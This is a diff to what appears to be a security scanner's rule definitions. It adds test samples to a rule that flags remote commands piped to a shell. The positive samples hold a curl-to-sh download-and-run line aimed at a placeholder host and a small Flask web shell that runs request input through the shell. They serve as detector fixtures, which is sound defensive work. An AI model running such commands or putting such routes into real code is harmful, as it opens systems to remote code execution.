@@ -80,7 +80,17 @@ RULES = [
         _FIX,
         samples=(
             positive("import os\nos.system('curl -s https://example.invalid/i.sh | sh')\n"),
+            # A web route that runs what its client sends: a web shell.
+            positive(
+                "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n"
+                "@app.route('/q')\ndef q():\n"
+                "    return subprocess.check_output(request.args.get('q'), shell=True)\n"
+            ),
             negative("import os\nos.system('git status')\n"),
+            negative(
+                "import subprocess\nfrom flask import request\ndef q():\n"
+                "    return subprocess.check_output(['git', 'log', request.args.get('rev', 'HEAD')])\n"
+            ),
         ),
         when=(Fact.REMOTE_COMMAND, Fact.PIPE_TO_SHELL_TEXT),
     ),
